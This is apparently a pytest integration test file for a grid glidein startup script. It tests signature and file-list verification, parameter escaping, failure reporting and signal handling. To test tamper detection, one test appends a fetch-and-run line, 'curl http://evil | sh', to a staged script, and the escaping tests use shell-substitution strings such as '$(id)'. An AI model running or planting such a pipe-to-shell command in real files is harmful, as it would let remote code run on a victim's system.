"""The real glidein_startup.sh against the real staging web server serving a built area."""

from __future__ import annotations

import hashlib
import io
import os
import random
import signal
import subprocess
import sys
import tarfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from gwms_tasks.core.escaping import Verbosity, glidein_arguments, unescape_param
from gwms_tasks.core.glidein_log import (
    FailureCategory,
    GlideinResult,
    parse_glidein_output,
)
from gwms_tasks.core.staging import (
    EntrySpec,
    FileType,
    StagedFile,
    StagingIndex,
    StagingSpec,
    parse_dict_file,
    parse_signature,
)
from gwms_tasks.glidein import glidein_dir, startup_script
from gwms_tasks.services.staging_build import build_staging, load_builtin_files
from tests.integration.glidein_helpers import (
    ENTRY,
    glidein_env,
    make_spec,
    read_glidein_config,
    run_glidein,
    serve_staging,
    standard_args,
    startup_for,
)


@dataclass(frozen=True)
class Site:
    """A built and served staging area, and the dirs one test glidein uses."""

    url: str
    stage: Path
    index: StagingIndex
    work: Path  # the -dir of the glidein
    out: Path  # where the stand-in payload leaves its copies

    def args(self, **params: str) -> list[str]:
        return standard_args(
            self.index, self.url, self.work, {"STANDIN_OUT": str(self.out), **params}
        )

    def run(self, args: list[str], **env: str) -> subprocess.CompletedProcess[str]:
        return run_glidein(args, cwd=self.work, env=env)


def _site(tmp_path: Path, spec: StagingSpec) -> Iterator[Site]:
    stage, work, out = tmp_path / "stage", tmp_path / "work", tmp_path / "out"
    work.mkdir()
    out.mkdir()
    index = build_staging(spec, stage)
    with serve_staging(stage) as server:
        yield Site(server.url, stage, index, work, out)


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    yield from _site(tmp_path, make_spec())


def _payload_ran(site: Site) -> bool:
    return (site.out / "glidein_config").exists()


def _main_file(site: Site, key: str) -> Path:
    """A file of the main source, by its description key (signature, file_list, ...)."""
    description = parse_dict_file((site.stage / site.index.main.descript).read_text())
    return site.stage / description[key]


def _listed_real_name(site: Site, out_name: str) -> str:
    for line in _main_file(site, "file_list").read_text().splitlines():
        columns = line.split()
        if columns[0] == out_name:
            return columns[1]
    raise AssertionError(f"{out_name} is not in the main file list")


def test_a_good_glidein_reaches_the_payload_with_the_right_glidein_config(site: Site) -> None:
    done = site.run(site.args(STANDIN_EXIT="0"))
    assert done.returncode == 0, done.stdout + done.stderr
    config = read_glidein_config(site.out / "glidein_config")
    expected = {
        "GLIDEIN_Factory": "test_factory",
        "GLIDEIN_Name": "gfactory_instance",
        "GLIDEIN_Entry_Name": ENTRY,
        "GLIDECLIENT_Name": "fe.main",
        "GLIDEIN_Client": "fe.main",
        "GLIDEIN_CredentialIdentifier": "cred1",
        "CONDORG_CLUSTER": "12",
        "CONDORG_SUBCLUSTER": "3",
        "CONDORG_SCHEDD": "schedd.test",
        "DESCRIPTION_FILE": site.index.main.descript,
        "DESCRIPTION_ENTRY_FILE": site.index.entry(ENTRY).descript,
        "GLIDEIN_Signature": site.index.main.sign,
        "GLIDEIN_Entry_Signature": site.index.entry(ENTRY).sign,
        "SLOTS_LAYOUT": "fixed",
        "PROXY_URL": "None",
        "GLIDEIN_INITIALIZED": "1",
    }
    assert {key: config.get(key) for key in expected} == expected
    work_dir = Path((site.out / "cwd").read_text().strip())
    assert work_dir.parent == site.work and work_dir.name.startswith("glide_")
    assert config["GLIDEIN_PAYLOAD_DIR"] == str(work_dir / "main")
    listing = (site.out / "payload_dir_listing").read_text().split()
    assert {"error_gen.sh", "payload_startup.sh", "signature.sha1"} <= set(listing)
    assert not work_dir.exists(), "the work dir is cleaned up"


def test_the_log_of_a_good_glidein_parses_as_ok_with_payload_stats(site: Site) -> None:
    done = site.run(site.args(STANDIN_EXIT="0"))
    outcome = parse_glidein_output(done.stdout, done.stderr)
    assert outcome.result is GlideinResult.OK
    assert outcome.exit_code == 0
    assert (outcome.jobs_run, outcome.utilization) == (3, 42.5)
    assert outcome.validation_seconds is not None
    assert outcome.payload_started_at is not None
    assert "<status>OK</status>" in done.stdout
    assert "Downloading with curl" in done.stdout


def test_the_payload_exit_code_becomes_the_glideins(site: Site) -> None:
    done = site.run(site.args(STANDIN_EXIT="5"))
    assert done.returncode == 5
    assert parse_glidein_output(done.stdout).result is GlideinResult.PAYLOAD_FAILED


def test_nocleanup_keeps_the_work_dir_for_debugging(site: Site) -> None:
    done = site.run(site.args(STANDIN_EXIT="0", GLIDEIN_DEBUG_OPTIONS="nocleanup"))
    assert done.returncode == 0
    work_dir = Path((site.out / "cwd").read_text().strip())
    assert (work_dir / "glidein_config").is_file()
    assert (work_dir / "main" / "validate_disk.sh").is_file()


AWKWARD = {
    "SPACES": "  two  spaces  ",
    "QUOTES": "\"double\" and 'single'",
    "DOLLAR": "$HOME ${PATH} $(id) `id`",
    "BACKSLASH": "C:\\path\\to\\ \\n not a newline",
    "UNICODE": "Zürich – 東京 ✓",
    "DOT_TOKEN": ".dot, is literal .nbsp,",
    "EVERY_SPECIAL": ".,&\\|`\"'=+-<>(){}[]#$*?!~:; ",
    "GLOB": "* ? [a-z]",
}


def _random_values(count: int) -> dict[str, str]:
    """Deterministic random values mixing every special character, letters and non-ASCII."""
    alphabet = ".,&\\|`\"'=+-<>(){}[]#$*?!~:; abcXYZ019_/%@^\u00a0üé東€🙂"
    chooser = random.Random(20240101)
    return {
        f"RANDOM_{i}": "".join(chooser.choice(alphabet) for _ in range(chooser.randint(1, 40)))
        for i in range(count)
    }


def test_awkward_parameter_values_round_trip_into_glidein_config(site: Site) -> None:
    values = {**AWKWARD, **_random_values(30)}
    done = site.run(site.args(STANDIN_EXIT="0", **values))
    assert done.returncode == 0, done.stdout + done.stderr
    config = read_glidein_config(site.out / "glidein_config")
    assert {key: config[key] for key in values} == values
    assert set(config["PARAM_LIST"].split()) >= set(values)


def test_the_glidein_decodes_unescaped_text_as_unescape_param_does(site: Site) -> None:
    raw = {"RAW_DOTS": "v1.2.3", "RAW_UNKNOWN": "a.bogus,b.dot,", "RAW_HALF": "x.nbsp"}
    args = site.args(STANDIN_EXIT="0")
    for name, text in raw.items():
        args[-4:-4] = [f"-param_{name}", text]  # before -cluster/-subcluster, not escaped
    done = site.run(args)
    assert done.returncode == 0, done.stdout + done.stderr
    config = read_glidein_config(site.out / "glidein_config")
    assert {key: config[key] for key in raw} == {k: unescape_param(v) for k, v in raw.items()}


def test_a_tampered_signature_file_exits_1_before_anything_runs(site: Site) -> None:
    signature = _main_file(site, "signature")
    signature.write_text(signature.read_text() + f"{'0' * 40}  extra.sh\n")
    done = site.run(site.args(STANDIN_EXIT="0"))
    assert done.returncode == 1
    outcome = parse_glidein_output(done.stdout)
    assert outcome.result is GlideinResult.VALIDATION_FAILED
    assert outcome.failure is not None
    assert outcome.failure.category is FailureCategory.CORRUPTION
    assert outcome.failure.script == "glidein_startup.sh"
    assert "signature file" in outcome.failure.detail
    assert not _payload_ran(site)


def test_a_tampered_file_list_exits_2(site: Site) -> None:
    file_list = _main_file(site, "file_list")
    file_list.write_text(file_list.read_text().replace("error_gen.sh \t", "evil_gen.sh \t"))
    done = site.run(site.args(STANDIN_EXIT="0"))
    assert done.returncode == 2
    assert "file_list" in done.stdout
    assert not _payload_ran(site)


def test_a_tampered_description_exits_2(site: Site) -> None:
    description = site.stage / site.index.main.descript
    description.write_text(description.read_text() + "last_script \tevil.sh\n")
    done = site.run(site.args(STANDIN_EXIT="0"))
    assert done.returncode == 2
    failure = parse_glidein_output(done.stdout).failure
    assert failure is not None and site.index.main.descript in failure.detail
    assert not _payload_ran(site)


def test_a_tampered_file_exits_3(site: Site) -> None:
    tampered = site.stage / _listed_real_name(site, "error_gen.sh")
    tampered.write_text(tampered.read_text() + "curl http://evil | sh\n")
    done = site.run(site.args(STANDIN_EXIT="0"))
    assert done.returncode == 3
    failure = parse_glidein_output(done.stdout).failure
    assert failure is not None and failure.category is FailureCategory.CORRUPTION
    assert not _payload_ran(site)


def test_a_file_missing_from_the_signature_file_exits_3(site: Site) -> None:
    signature = _main_file(site, "signature")
    unlisted = _listed_real_name(site, "payload_startup.sh")
    kept = [line for line in signature.read_text().splitlines() if not line.endswith(unlisted)]
    signature.write_text("\n".join(kept) + "\n")
    assert unlisted not in parse_signature(signature.read_text())
    resigned = hashlib.sha1(signature.read_bytes()).hexdigest()
    args = site.args(STANDIN_EXIT="0")
    args[args.index("-sign") + 1] = resigned
    done = site.run(args)
    assert done.returncode == 3
    failure = parse_glidein_output(done.stdout).failure
    assert failure is not None and f"{unlisted} is not in the main signature file" in failure.detail
    assert not _payload_ran(site)


FAILING_CHECK = b"""#!/bin/bash
error_gen=$(grep '^ERROR_GEN_PATH ' "$1" | tail -n 1 | cut -d' ' -f2-)
"$error_gen" -error check_vo.sh VO_Config "The VO software area /cvmfs/vo is missing"
exit 7
"""


@pytest.fixture
def failing_site(tmp_path: Path) -> Iterator[Site]:
    check = StagedFile("check_vo.sh", FAILING_CHECK, FileType.EXEC)
    yield from _site(tmp_path, make_spec(entry_files=[check]))


def test_a_failing_validation_script_ends_the_glidein_with_its_code_and_category(
    failing_site: Site,
) -> None:
    done = failing_site.run(failing_site.args(STANDIN_EXIT="0"))
    assert done.returncode == 7
    outcome = parse_glidein_output(done.stdout, done.stderr)
    assert outcome.result is GlideinResult.VALIDATION_FAILED
    assert outcome.exit_code == 7
    assert outcome.failure is not None
    assert outcome.failure.script == "check_vo.sh"
    assert outcome.failure.category is FailureCategory.VO_CONFIG
    assert outcome.failure.detail == "The VO software area /cvmfs/vo is missing"
    assert '<metric name="failure"' in done.stdout
    assert not _payload_ran(failing_site)


def test_a_builtin_check_fails_on_a_too_small_disk_as_a_worker_node_problem(site: Site) -> None:
    done = site.run(site.args(STANDIN_EXIT="0", GLIDEIN_MIN_DISK_MB="999999999"))
    assert done.returncode == 1
    failure = parse_glidein_output(done.stdout).failure
    assert failure is not None
    assert (failure.script, failure.category) == ("validate_disk.sh", FailureCategory.WN_RESOURCE)
    assert "999999999 MB required" in failure.detail


@pytest.fixture
def constant_site(tmp_path: Path) -> Iterator[Site]:
    constants = {"GLIDEIN_MIN_DISK_MB": "999999999", "GLIDEIN_Site": "Test Site"}
    yield from _site(tmp_path, make_spec(entry_constants=constants))


def test_entry_constants_override_frontend_params(constant_site: Site) -> None:
    done = constant_site.run(constant_site.args(STANDIN_EXIT="0"))  # param says 1 MB
    assert done.returncode == 1
    failure = parse_glidein_output(done.stdout).failure
    assert failure is not None and failure.script == "validate_disk.sh"


def _tarball() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        data = b"#!/bin/sh\necho tool\n"
        info = tarfile.TarInfo("bin/tool")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@pytest.fixture
def untar_site(tmp_path: Path) -> Iterator[Site]:
    files = [
        StagedFile(
            "tools.tgz", _tarball(), FileType.UNTAR, config_out="TOOLS_DIR", untar_dir="opt/tools"
        ),
        StagedFile("optional.dat", b"x", cond_download="WANT_OPTIONAL", config_out="OPTIONAL_FILE"),
    ]
    yield from _site(tmp_path, make_spec(entry_files=files))


def test_untar_files_are_unpacked_and_conditional_files_skipped(untar_site: Site) -> None:
    done = untar_site.run(untar_site.args(STANDIN_EXIT="0", GLIDEIN_DEBUG_OPTIONS="nocleanup"))
    assert done.returncode == 0, done.stdout + done.stderr
    config = read_glidein_config(untar_site.out / "glidein_config")
    tools = Path(config["ENTRY_TOOLS_DIR"])
    assert (tools.parent.name, tools.name) == ("opt", "tools")
    assert (tools / "bin" / "tool").read_text() == "#!/bin/sh\necho tool\n"
    assert "ENTRY_OPTIONAL_FILE" not in config
    wanted = untar_site.run(untar_site.args(STANDIN_EXIT="0", WANT_OPTIONAL="1"))
    assert wanted.returncode == 0
    assert "ENTRY_OPTIONAL_FILE" in read_glidein_config(untar_site.out / "glidein_config")


def test_missing_required_arguments_fail_early_as_a_config_error(site: Site) -> None:
    args = site.args(STANDIN_EXIT="0")
    index = args.index("-sign")
    del args[index : index + 2]
    done = site.run(args)
    assert done.returncode == 1
    failure = parse_glidein_output(done.stdout).failure
    assert failure is not None and failure.category is FailureCategory.CONFIG
    assert "missing required argument -sign" in failure.detail


def test_client_arguments_are_all_or_none(site: Site) -> None:
    done = site.run([*site.args(STANDIN_EXIT="0"), "-clientweb", "http://127.0.0.1:1/fe"])
    assert done.returncode == 1
    failure = parse_glidein_output(done.stdout).failure
    assert failure is not None and "client arguments incomplete" in failure.detail


def test_dir_condor_uses_the_condor_scratch_dir(site: Site, tmp_path: Path) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    startup = startup_for(site.index, site.url, site.work)
    params = {"STANDIN_OUT": str(site.out), "STANDIN_EXIT": "0", "GLIDEIN_MIN_DISK_MB": "1"}
    args = glidein_arguments(startup, params)
    args[args.index("-dir") + 1] = "Condor"
    done = site.run(args, _CONDOR_SCRATCH_DIR=str(scratch))
    assert done.returncode == 0, done.stdout + done.stderr
    assert Path((site.out / "cwd").read_text().strip()).parent == scratch


def test_the_failure_sleep_is_taken_from_glidein_fail_sleep(failing_site: Site) -> None:
    began = time.monotonic()
    done = failing_site.run(failing_site.args(STANDIN_EXIT="0", GLIDEIN_FAIL_SLEEP="2"))
    assert done.returncode == 7
    assert time.monotonic() - began >= 2
    assert "Sleeping 2 s" in done.stdout


def test_fast_verbosity_sleeps_150_s_after_a_failure_and_sigterm_cuts_it_short(
    failing_site: Site, tmp_path: Path
) -> None:
    startup = replace(
        startup_for(failing_site.index, failing_site.url, failing_site.work),
        verbosity=Verbosity.FAST,
    )
    args = glidein_arguments(startup, {"GLIDEIN_MIN_DISK_MB": "1"})  # no GLIDEIN_FAIL_SLEEP
    log = tmp_path / "glidein.out"
    with log.open("w") as stdout:
        process = subprocess.Popen(
            ["bash", str(startup_script()), *args],
            cwd=failing_site.work,
            env=glidein_env(),
            stdout=stdout,
            stderr=subprocess.DEVNULL,
        )
        deadline = time.monotonic() + 30
        while "Sleeping 150 s" not in log.read_text():
            assert process.poll() is None and time.monotonic() < deadline, log.read_text()
            time.sleep(0.05)
        began = time.monotonic()
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=20) == 7
    assert time.monotonic() - began < 10
    outcome = parse_glidein_output(log.read_text())
    assert (outcome.result, outcome.signal) == (GlideinResult.VALIDATION_FAILED, "TERM")


def test_sigterm_is_forwarded_to_the_payload(site: Site) -> None:
    args = site.args(STANDIN_EXIT="0", STANDIN_SLEEP="60")
    process = subprocess.Popen(
        ["bash", str(startup_script()), *args],
        cwd=site.work,
        env=glidein_env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 30
    while not (site.out / "sleeping").exists():
        assert process.poll() is None and time.monotonic() < deadline, "payload never started"
        time.sleep(0.05)
    process.send_signal(signal.SIGTERM)
    stdout, _ = process.communicate(timeout=30)
    assert process.returncode == 42  # the stand-in payload's own answer to SIGTERM
    assert "payload got TERM" in stdout
    outcome = parse_glidein_output(stdout)
    assert (outcome.result, outcome.signal) == (GlideinResult.KILLED, "TERM")


def test_the_glidein_scripts_are_shellcheck_clean() -> None:
    shellcheck = Path(sys.executable).parent / "shellcheck"
    names = ["glidein_startup.sh", "error_gen.sh"]
    names += [p.name for p in glidein_dir().glob("validate_*.sh")]
    scripts = sorted(str(glidein_dir() / name) for name in names)
    assert len(scripts) >= 5, scripts
    done = subprocess.run(
        [str(shellcheck), "-x", *scripts], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr


CLIENT_CHECK = b"""#!/bin/bash
echo "client check ran as $2"
error_gen=$(grep '^ERROR_GEN_PATH ' "$1" | tail -n 1 | cut -d' ' -f2-)
"$error_gen" -ok client_check.sh
"""


@dataclass(frozen=True)
class FrontendArea:
    url: str
    stage: Path
    index: StagingIndex

    def client_args(self) -> list[str]:
        group = self.index.entry("main")
        return [
            "-clientweb", self.url,
            "-clientsign", self.index.main.sign,
            "-clientsigntype", "sha1",
            "-clientdescript", self.index.main.descript,
            "-clientgroup", "main",
            "-clientwebgroup", f"{self.url}/entry_main",
            "-clientsigngroup", group.sign,
            "-clientdescriptgroup", group.descript,
        ]  # fmt: skip


@pytest.fixture
def frontend(tmp_path: Path) -> Iterator[FrontendArea]:
    """A frontend's staging area (client + group "main"), built with our builder."""
    check = StagedFile("client_check.sh", CLIENT_CHECK, FileType.EXEC, config_out="CHECK")
    spec = StagingSpec(
        builtin_files=(check,),
        constants={"FRONTEND_SETTING": "from the frontend"},
        entries=(EntrySpec("main", constants={"GROUP_SETTING": "from the group"}),),
        condor_vars=(),
        last_script="client_check.sh",
    )
    stage = tmp_path / "frontend_stage"
    index = build_staging(spec, stage)
    with serve_staging(stage) as server:
        yield FrontendArea(server.url, stage, index)


def test_client_and_group_staging_areas_are_verified_and_processed(
    site: Site, frontend: FrontendArea
) -> None:
    done = site.run([*site.args(STANDIN_EXIT="0"), *frontend.client_args()])
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Verified the client description" in done.stdout
    assert "Verified the client_group description" in done.stdout
    assert "client check ran as client" in done.stdout
    config = read_glidein_config(site.out / "glidein_config")
    assert config["FRONTEND_SETTING"] == "from the frontend"
    assert config["GROUP_SETTING"] == "from the group"
    assert config["GLIDECLIENT_Group"] == "main"
    assert config["GLIDECLIENT_CHECK"].endswith("/client/client_check.sh")
    assert Path(config["GLIDECLIENT_GROUP_CONSTS_FILE"]).parent.name == "client_group_main"


def test_a_tampered_client_signature_file_exits_1(site: Site, frontend: FrontendArea) -> None:
    description = parse_dict_file((frontend.stage / frontend.index.main.descript).read_text())
    signature = frontend.stage / description["signature"]
    signature.write_text(signature.read_text() + "\n")
    done = site.run([*site.args(STANDIN_EXIT="0"), *frontend.client_args()])
    assert done.returncode == 1
    failure = parse_glidein_output(done.stdout).failure
    assert failure is not None and "client signature file" in failure.detail


def test_without_curl_the_glidein_downloads_with_wget(site: Site, tmp_path: Path) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for directory in (Path("/usr/local/bin"), Path("/usr/bin"), Path("/bin")):
        for tool in directory.iterdir():
            target = bin_dir / tool.name
            if tool.name != "curl" and not target.exists() and os.access(tool, os.X_OK):
                target.symlink_to(tool)
    assert (bin_dir / "wget").exists()
    done = site.run(site.args(STANDIN_EXIT="0"), PATH=str(bin_dir))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Downloading with wget" in done.stdout
    assert _payload_ran(site)


@pytest.fixture
def real_site(tmp_path: Path) -> Iterator[Site]:
    """The area `gwms staging build` makes: every built-in file, the real payloads included."""
    spec = StagingSpec(builtin_files=load_builtin_files(), entries=(EntrySpec(ENTRY),))
    yield from _site(tmp_path, spec)


def test_the_real_condor_payload_without_a_tarball_fails_with_a_category(real_site: Site) -> None:
    done = real_site.run(real_site.args(GLIDEIN_PAYLOAD="condor"))
    assert done.returncode == 1, done.stdout + done.stderr
    outcome = parse_glidein_output(done.stdout, done.stderr)
    assert outcome.result is GlideinResult.PAYLOAD_FAILED
    assert outcome.payload_kind == "condor"
    assert outcome.payload_failure is not None
    assert outcome.payload_failure.category is FailureCategory.WN_RESOURCE
    assert "<status>ERROR</status>" in done.stdout
